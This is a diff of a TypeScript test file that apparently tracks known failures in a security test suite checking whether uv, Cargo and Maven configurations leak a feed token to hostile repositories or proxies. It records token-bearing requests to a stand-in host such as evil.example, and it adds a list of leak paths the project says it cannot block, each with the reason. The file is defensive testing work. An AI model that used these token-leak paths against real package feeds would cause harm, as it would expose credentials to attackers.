@@ -4,6 +4,8 @@ export interface KnownFailure {
   readonly today: string;
   /** Set where chance decides: uv takes the first of several fitting indexes from a hash table. */
   readonly sometimes?: true;
+  /** Why nothing that we set prevents it, where that is so. */
+  readonly reason?: string;
 }
 
 /**
@@ -11,127 +13,6 @@ export interface KnownFailure {
  * turns it red.
  */
 export const failsToday: ReadonlyMap<string, KnownFailure> = new Map<string, KnownFailure>([
-  ["uv-second-index-server-1", { today: "other organization: a request with the token", sometimes: true }],
-  [
-    "uv-second-index-server-2",
-    {
-      today:
-        "other organization: GET http://127.0.0.1/Other2/_packaging/parts/pypi/simple/contoso-greeting/ (in base64), and 1 more",
-      sometimes: true,
-    },
-  ],
-  [
-    "uv-second-index-server-3",
-    {
-      today:
-        "other organization: GET http://127.0.0.1/Other3/_packaging/parts/pypi/simple/contoso-greeting/ (in base64), and 1 more",
-      sometimes: true,
-    },
-  ],
-  [
-    "uv-line-1",
-    {
-      today:
-        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/simple/fabrikam-greeting/ (in base64), and 1 more",
-    },
-  ],
-  [
-    "uv-line-2",
-    {
-      today:
-        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/simple/fabrikam-greeting/ (in base64), and 1 more",
-    },
-  ],
-  [
-    "uv-line-3",
-    {
-      today:
-        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/simple/contoso-greeting/ (in base64)",
-    },
-  ],
-  [
-    "uv-line-6",
-    {
-      today:
-        "other organization: HEAD https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
-    },
-  ],
-  [
-    "uv-pylock",
-    {
-      today:
-        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
-    },
-  ],
-  [
-    "uv-script-direct",
-    {
-      today:
-        "other organization: HEAD https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
-    },
-  ],
-  [
-    "uv-publish-url-other",
-    {
-      today:
-        "other organization: POST https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/upload/ (in base64)",
-    },
-  ],
-  [
-    "uv-insecure-script",
-    {
-      today:
-        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/pypi/simple/fabrikam-greeting/ (in base64)",
-    },
-  ],
-  [
-    "uv-insecure-nested",
-    {
-      today:
-        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/pypi/simple/fabrikam-greeting/ (in base64)",
-    },
-  ],
-  [
-    "uv-address-server-collection",
-    {
-      today:
-        "other organization: GET http://127.0.0.1/OtherCollection/_packaging/parts/pypi/simple/evil/ (in base64)",
-      sometimes: true,
-    },
-  ],
-  [
-    "uv-address-server-collection-dots",
-    { today: "other organization: a request with the token", sometimes: true },
-  ],
-  ["cargo-nested-install", { today: "nobody was asked, so this shows nothing" }],
-  [
-    "cargo-proxy-cainfo",
-    {
-      today:
-        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/Cargo/index/config.json (as it is), and 2 more",
-    },
-  ],
-  [
-    "cargo-proxy-cainfo-nested",
-    {
-      today:
-        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/Cargo/index/config.json (as it is), and 2 more",
-    },
-  ],
-  [
-    "cargo-proxy-cainfo-include",
-    {
-      today:
-        "elsewhere: GET https://pkgs.dev.azure.com/fabrikam/Fabrikam%20Fiber/_packaging/fiber/Cargo/index/config.json (as it is), and 2 more",
-    },
-  ],
-  [
-    "cargo-proxy-server",
-    {
-      today:
-        "elsewhere: GET http://127.0.0.1/DefaultCollection/Fabrikam%20Fiber/_packaging/fiber/Cargo/index/config.json (as it is), and 2 more",
-    },
-  ],
   [
     "maven-expand-distribution",
     { today: "elsewhere: PUT https://evil.example/<token>/maven/com/lab/app/1.0.0/app-1.0.0.pom (as it is)" },
@@ -155,18 +36,43 @@ export const failsToday: ReadonlyMap<string, KnownFailure> = new Map<string, Kno
     },
   ],
   [
-    "restore-uv-lock-registry",
-    {
-      today:
-        "other organization: GET https://pkgs.dev.azure.com/contoso/_packaging/parts/pypi/download/contoso-greeting/1.0.0/contoso_greeting-1.0.0-py3-none-any.whl (in base64)",
-    },
-  ],
-  [
     "maven-innocent-alternative",
     { today: "works: mvn deploy with the project's id on the command line has no credentials, and gets 401" },
   ],
   [
     "maven-innocent-snapshot-3.8",
     { today: "works: the deploy plugin 2.7 does not know a repository for snapshots alone, and gets 401" },
+  ],
+]);
+
+/**
+ * Hostile repositories that no setting of ours keeps from the token, by their id; docs/security.md has them under "What
+ * cannot be protected". They need more than the repository: somebody between the agent and the feed who answers in its
+ * place, here the proxy that it names.
+ */
+export const cannotBePrevented: ReadonlyMap<string, KnownFailure> = new Map<string, KnownFailure>([
+  [
+    "cargo-proxy-cainfo-nested",
+    {
+      today: "elsewhere: requests for the feed's index, through the proxy that the configuration below names",
+      reason:
+        "Cargo reads the configuration of the folder that it is run in, and the task that of the working directory and above; a variable that wins would take the machine's own proxy from those who have none in the agent",
+    },
+  ],
+  [
+    "uv-insecure-script",
+    {
+      today: "elsewhere: a request for the feed, through the proxy that the script's metadata names",
+      reason:
+        "uv adds allow-insecure-host of a script to what variables and files say, and the task cannot know which scripts are run",
+    },
+  ],
+  [
+    "uv-insecure-nested",
+    {
+      today: "elsewhere: a request for the feed, through the proxy that the project below names",
+      reason:
+        "uv adds allow-insecure-host of the project that it is run in, and the task reads the working directory, the folders above, members and path dependencies",
+    },
   ],
 ]);
